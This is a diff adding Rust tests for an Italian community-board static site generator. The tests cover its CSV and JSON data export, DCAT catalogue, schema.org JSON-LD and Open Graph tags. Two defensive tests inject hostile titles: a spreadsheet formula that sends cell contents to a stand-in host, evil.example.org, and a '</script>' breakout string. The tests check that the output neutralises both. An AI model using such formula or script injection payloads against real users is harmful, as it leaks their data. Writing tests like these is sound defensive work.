@@ -1,0 +1,269 @@
+//! The data of the board for machines: the table, the catalogue, what pages say to search engines.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::OnceLock;
+
+use serde_json::Value as Json;
+
+use crate::site::ADDRESS;
+use crate::support::{Tree, bacheca, none, repository, small_board, small_site, tree, write};
+
+/// A table by its columns: each row a map.
+fn rows(bytes: &[u8]) -> Vec<BTreeMap<String, String>> {
+    let text = bytes.strip_prefix("\u{feff}".as_bytes()).expect("a spreadsheet wants the byte order mark");
+    let mut reader = csv::Reader::from_reader(text);
+    let names = reader.headers().unwrap().clone();
+    let rows = reader.records().map(|row| row.expect("every row has every column"));
+    rows.map(|row| names.iter().map(str::to_owned).zip(row.iter().map(str::to_owned)).collect()).collect()
+}
+
+#[test]
+fn the_table_has_the_items_of_the_data() {
+    let site = tree(small_site());
+    let data: Json = serde_json::from_slice(&site["dati/opportunita.json"]).unwrap();
+    let items: Vec<&Json> = data["opportunita"].as_array().unwrap().iter().collect();
+    let rows = rows(&site["dati/opportunita.csv"]);
+    let slugs = |names: Vec<&str>| names.into_iter().map(str::to_owned).collect::<Vec<_>>();
+    assert_eq!(
+        slugs(rows.iter().map(|row| row["slug"].as_str()).collect()),
+        slugs(items.iter().map(|item| item["slug"].as_str().unwrap()).collect())
+    );
+    for (row, item) in rows.iter().zip(&items) {
+        assert_eq!(row["aperta"] == "sì", item["aperta"] == true, "{}", row["slug"]);
+        assert_eq!(row["titolo"], item["titolo"].as_str().unwrap());
+    }
+    let job = rows.iter().find(|row| row["slug"] == "aiuto-cuoco-mensa").unwrap();
+    assert_eq!((job["scadenza"].as_str(), job["zona"].as_str()), ("2026-11-30", "II"));
+    let withdrawn = rows.iter().find(|row| row["stato"] == "ritirato").unwrap();
+    assert!(withdrawn["ente"].is_empty() && withdrawn["sintesi"].is_empty());
+}
+
+#[test]
+fn no_cell_of_the_table_is_a_formula() {
+    let board = small_board();
+    let file = board.path().join("content/opportunita/2026/sportello-diritti.md");
+    let text = std::fs::read_to_string(&file).unwrap();
+    let title = "'=HYPERLINK(\"https://evil.example.org/?\"&A1, \"Sportello\")'";
+    std::fs::write(&file, text.replace("titolo: Sportello diritti", &format!("titolo: {title}"))).unwrap();
+    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).ends(0);
+    let bytes = std::fs::read(board.path().join("public/dati/opportunita.csv")).unwrap();
+    let rows = rows(&bytes);
+    assert!(rows.iter().any(|row| row["titolo"].starts_with("'=HYPERLINK(\"https")), "{rows:?}");
+    let cells = rows.iter().flat_map(|row| row.values());
+    none(cells.filter(|cell| cell.starts_with(['=', '+', '-', '@', '\t', '\r'])).cloned().collect());
+}
+
+#[test]
+fn the_catalogue_says_what_dcat_ap_it_asks_for() {
+    let site = tree(small_site());
+    let catalogue: Json = serde_json::from_slice(&site["dati/catalogo.jsonld"]).unwrap();
+    let dataset = &catalogue["dcat:dataset"][0];
+    let wanted = [
+        (&catalogue, vec!["dct:title", "dct:description", "dct:publisher", "dct:modified", "dcat:dataset"]),
+        (
+            dataset,
+            vec![
+                "dct:identifier",
+                "dct:title",
+                "dct:description",
+                "dct:modified",
+                "dct:rightsHolder",
+                "dct:accrualPeriodicity",
+                "dcat:theme",
+                "dcat:contactPoint",
+                "dcat:distribution",
+            ],
+        ),
+    ];
+    for (thing, properties) in wanted {
+        none(properties.into_iter().filter(|name| thing[*name].is_null()).map(str::to_owned).collect());
+    }
+    let files = dataset["dcat:distribution"].as_array().unwrap();
+    assert_eq!(files.len(), 2);
+    for file in files {
+        let path = file["dcat:downloadURL"]["@id"].as_str().unwrap().strip_prefix(ADDRESS).unwrap();
+        assert!(site.contains_key(path), "{path}");
+        assert_eq!(file["dct:license"]["@id"], "https://creativecommons.org/licenses/by/4.0/");
+        let media_type = file["dcat:mediaType"]["@id"].as_str().unwrap();
+        assert!(media_type.ends_with(if path.ends_with("csv") { "text/csv" } else { "application/json" }));
+    }
+}
+
+/// The small board with every full case of `tests/kinds/`, open and not an example.
+fn all_kinds() -> &'static Tree {
+    static SITE: OnceLock<Tree> = OnceLock::new();
+    SITE.get_or_init(|| {
+        let board = small_board();
+        for (path, bytes) in tree(&repository("tests/kinds")) {
+            let to = board.path().join("content/opportunita/2026").join(&path);
+            if !path.ends_with(".md") {
+                write(&to, bytes);
+                continue;
+            }
+            let text = String::from_utf8(bytes).unwrap();
+            let real = |line: &&str| !["stato:", "esempio:", "archiviato:"].iter().any(|key| line.starts_with(key));
+            let text: String = text.lines().filter(real).flat_map(|line| [line, "\n"]).collect();
+            write(&to, text);
+        }
+        bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).ends(0);
+        tree(&board.path().join("public"))
+    })
+}
+
+/// What a page says to machines, if anything.
+fn said(site: &Tree, slug: &str) -> Option<Json> {
+    let page = String::from_utf8_lossy(&site[&format!("o/{slug}/index.html")]).into_owned();
+    let data = page.split("<script type=\"application/ld+json\">").nth(1)?;
+    Some(
+        serde_json::from_str(data.split("</script>").next().unwrap()).unwrap_or_else(|error| panic!("{slug}: {error}")),
+    )
+}
+
+#[test]
+fn each_kind_says_what_search_engines_ask_for() {
+    let organisation = "Associazione Il Ponte";
+    // An item, and for each place in its data what stands there; `*` is anything.
+    let table: &[(&str, &[(&str, &str)])] = &[
+        (
+            "aiuto-cuoco-mensa",
+            &[
+                ("/@context", "https://schema.org"),
+                ("/@type", "JobPosting"),
+                ("/title", "Aiuto cuoco o cuoca nella mensa della scuola"),
+                ("/description", "*"),
+                ("/datePosted", "2026-11-18"),
+                // The last day is included: the midnight after it.
+                ("/validThrough", "2026-12-01T00:00:00+01:00"),
+                ("/employmentType/0", "PART_TIME"),
+                ("/employmentType/1", "TEMPORARY"),
+                ("/hiringOrganization/name", "*"),
+                ("/jobLocation/address/streetAddress", "via Rossi 2"),
+                ("/jobLocation/address/addressLocality", "Borgo"),
+                ("/jobLocation/address/addressCountry", "IT"),
+                ("/baseSalary/currency", "EUR"),
+                ("/baseSalary/value/unitText", "MONTH"),
+                ("/baseSalary/value/value", "*"),
+            ],
+        ),
+        (
+            "formazione-full",
+            &[
+                ("/@type", "Course"),
+                ("/name", "*"),
+                ("/description", "*"),
+                ("/provider/name", organisation),
+                ("/offers/price", "*"),
+                ("/offers/priceCurrency", "EUR"),
+                ("/hasCourseInstance/0/@type", "CourseInstance"),
+                ("/hasCourseInstance/0/courseMode", "Onsite"),
+                ("/hasCourseInstance/0/startDate", "2026-12-01"),
+                ("/hasCourseInstance/0/endDate", "2027-02-26"),
+                ("/hasCourseInstance/0/courseWorkload", "PT100H"),
+                ("/hasCourseInstance/0/location/address/streetAddress", "via Rossi 2"),
+                ("/hasCourseInstance/1/courseMode", "Online"),
+            ],
+        ),
+        (
+            "evento-full",
+            &[
+                ("/@graph/0/@type", "Event"),
+                ("/@graph/0/name", "*"),
+                ("/@graph/0/startDate", "2026-12-01T09:00:00+01:00"),
+                ("/@graph/0/endDate", "2027-02-26T18:00:00+01:00"),
+                ("/@graph/0/eventStatus", "https://schema.org/EventScheduled"),
+                ("/@graph/0/eventAttendanceMode", "https://schema.org/OfflineEventAttendanceMode"),
+                ("/@graph/0/location/address/addressLocality", "Borgo"),
+                ("/@graph/0/organizer/name", organisation),
+                ("/@graph/1/eventAttendanceMode", "https://schema.org/OnlineEventAttendanceMode"),
+                ("/@graph/2/startDate", "2027-05"),
+            ],
+        ),
+        (
+            "notizia-full",
+            &[
+                ("/@type", "NewsArticle"),
+                ("/headline", "*"),
+                ("/datePublished", "2026-11-20"),
+                ("/dateModified", "2026-11-20"),
+                ("/publisher/name", "Bacheca di Borgo"),
+                ("/author/name", organisation),
+            ],
+        ),
+        (
+            "normativa-full",
+            &[("/@type", "NewsArticle"), ("/about/@type", "Legislation"), ("/about/legislationIdentifier", "*")],
+        ),
+        ("abitare-full", &[("/@type", "Service"), ("/provider/name", organisation), ("/serviceType", "Abitare")]),
+        (
+            "sportello-diritti",
+            &[
+                ("/@type", "Service"),
+                ("/areaServed/name", "Borgo"),
+                ("/availableChannel/serviceLocation/geo/latitude", "*"),
+                ("/audience/audienceType", "*"),
+            ],
+        ),
+    ];
+    let mut problems = Vec::new();
+    for (slug, properties) in table {
+        let data = said(all_kinds(), slug).unwrap_or_else(|| panic!("{slug} says nothing"));
+        for (place, wanted) in *properties {
+            let found = data.pointer(place);
+            let fits = found.is_some_and(|found| *wanted == "*" || found == *wanted);
+            problems.extend((!fits).then(|| format!("{slug}{place}: {found:?}, not {wanted}")));
+        }
+    }
+    none(problems);
+}
+
+#[test]
+fn machines_are_told_of_no_example_and_of_no_job_that_is_over() {
+    let site = tree(small_site());
+    assert_eq!(said(&site, "italiano-a2"), None);
+    assert!(said(&site, "porte-aperte").is_some());
+    let board = small_board();
+    let root = board.path().to_str().unwrap();
+    let skip = ["build", "--skip", "poster,card,print,search"];
+    crate::support::run(&[&["--root", root, "--today", "2026-12-01"], skip.as_slice()].concat()).ends(0);
+    assert_eq!(said(&tree(&board.path().join("public")), "aiuto-cuoco-mensa"), None);
+    // What search engines do not list says nothing either.
+    let untranslated = String::from_utf8_lossy(&site["en/o/aiuto-cuoco-mensa/index.html"]).into_owned();
+    assert!(!untranslated.contains("ld+json"));
+}
+
+#[test]
+fn no_text_ends_the_script_that_holds_it() {
+    let board = small_board();
+    let file = board.path().join("content/opportunita/2026/sportello-diritti.md");
+    let text = std::fs::read_to_string(&file).unwrap();
+    let title = "\"Sportello </script><!-- & <b>diritti\"";
+    std::fs::write(&file, text.replace("titolo: Sportello diritti", &format!("titolo: {title}"))).unwrap();
+    bacheca(board.path(), &["build", "--skip", "poster,card,print,search"]).ends(0);
+    let site = tree(&board.path().join("public"));
+    assert_eq!(said(&site, "sportello-diritti").unwrap()["name"], "Sportello </script><!-- & <b>diritti");
+    let page = String::from_utf8_lossy(&site["o/sportello-diritti/index.html"]).into_owned();
+    assert_eq!(page.matches("</script>").count(), page.matches("<script").count());
+}
+
+#[test]
+fn a_link_in_a_chat_is_whole() {
+    let site = tree(small_site());
+    let page = |path: &str| String::from_utf8_lossy(&site[path]).into_owned();
+    let tags = |page: &str| -> BTreeSet<String> {
+        page.split("<meta property=\"").skip(1).filter_map(|tag| Some(tag.split('>').next()?.to_owned())).collect()
+    };
+    let job = tags(&page("o/aiuto-cuoco-mensa/index.html"));
+    for tag in [
+        "og:type\" content=\"article\"",
+        "article:published_time\" content=\"2026-11-18T00:00:00+01:00\"",
+        "og:locale\" content=\"it_IT\"",
+        "og:image:alt\" content=\"Aiuto cuoco o cuoca nella mensa della scuola\"",
+    ] {
+        assert!(job.contains(tag), "{tag} is not in {job:#?}");
+    }
+    let course = tags(&page("ar/o/italiano-a2/index.html"));
+    assert!(
+        course.contains("og:locale\" content=\"ar_AR\"") && course.contains("og:locale:alternate\" content=\"en_GB\"")
+    );
+    assert!(tags(&page("index.html")).contains("og:type\" content=\"website\""));
+}
